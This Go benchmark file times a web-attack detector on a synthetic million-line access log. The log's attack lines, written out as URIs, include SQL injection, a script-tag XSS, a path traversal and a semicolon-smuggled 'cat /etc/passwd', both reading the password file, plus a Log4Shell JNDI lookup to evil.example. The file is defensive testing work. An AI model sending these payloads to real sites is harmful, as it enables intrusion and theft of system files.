package attack

import (
	"fmt"
	"strings"
	"syscall"
	"testing"
	"time"
)

// monthLog is n access-log lines of ordinary traffic with one attack in
// every hundred (five attacks over and over, as a scanner sends them).
func monthLog(n int) string { return monthLogWith(n, false) }

// monthLogWith is monthLog, with every attack line a request of its own
// when distinct is set (none judged before).
func monthLogWith(n int, distinct bool) string {
	var b strings.Builder
	pages := []string{"/", "/products/list?category=bearing&page=2", "/search?q=%E6%9D%B1%E4%BA%AC&page=1",
		"/assets/css/site.min.css?v=3", "/img/logo.png", "/news/2026/11/press.html?utm_source=mail", "/contact/submit"}
	bad := []string{"/item.php?id=1%27%20OR%20%271%27%3D%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/dl?file=../../../../etc/passwd", "/?x=${jndi:ldap://evil.example/a}", "/diag?ip=1.1.1.1;cat%20/etc/passwd"}
	for i := 0; i < n; i++ {
		uri := pages[i%len(pages)]
		if i%100 == 50 {
			uri = bad[(i/100)%len(bad)]
			if distinct {
				uri += "&n=" + fmt.Sprint(i)
			}
		}
		fmt.Fprintf(&b, "203.0.%d.%d - - [03/Nov/2026:10:%02d:%02d +0900] \"GET %s HTTP/1.1\" 200 %d \"-\" \"%s\"\n",
			i%250, i%200, (i/60)%60, i%60, uri, 2000+i%500, chromeUA)
	}
	return b.String()
}

// BenchmarkMonth1M: a month of one busy site, 1,000,000 lines with 1 %
// attacks, read and analysed (make bench prints ns/op = the month's time).
func BenchmarkMonth1M(b *testing.B) { benchMonth(b, monthLog(1_000_000)) }

// BenchmarkMonth1MDistinct is BenchmarkMonth1M with no two attack lines
// alike, so that every one is replayed through the rule set: the worst
// case of the verdicts Detector remembers.
func BenchmarkMonth1MDistinct(b *testing.B) { benchMonth(b, monthLogWith(1_000_000, true)) }

func benchMonth(b *testing.B, text string) {
	d, err := NewDetector(1)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	cpu0 := cpuTime()
	for b.Loop() {
		f, err := ReadFile("access.log", strings.NewReader(text), asOf, 0)
		if err != nil {
			b.Fatal(err)
		}
		before, replayed := d.Evaluated(), d.Replayed()
		s := Analyze("web", []*File{f}, d, DefaultOptions())
		b.ReportMetric(float64(d.Evaluated()-before), "evaluated")
		b.ReportMetric(float64(d.Replayed()-replayed), "replayed")
		if len(s.Signs) < 4 {
			b.Fatalf("signs %+v", s.Signs)
		}
	}
	b.ReportMetric((cpuTime()-cpu0).Seconds()/float64(b.N), "cpu-s/op")
}

// cpuTime returns the CPU time the process has used (user and system), so
// that the benchmark reports its own cost beside the wall time other
// processes on a shared machine inflate.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// BenchmarkEvaluate is the cost of one request through the full rule set.
func BenchmarkEvaluate(b *testing.B) {
	d, err := NewDetector(1)
	if err != nil {
		b.Fatal(err)
	}
	r := Request{Method: "GET", URI: "/search?q=tokyo+tower+hours&lang=en", UserAgent: chromeUA}
	for b.Loop() {
		d.evaluate(r)
	}
}
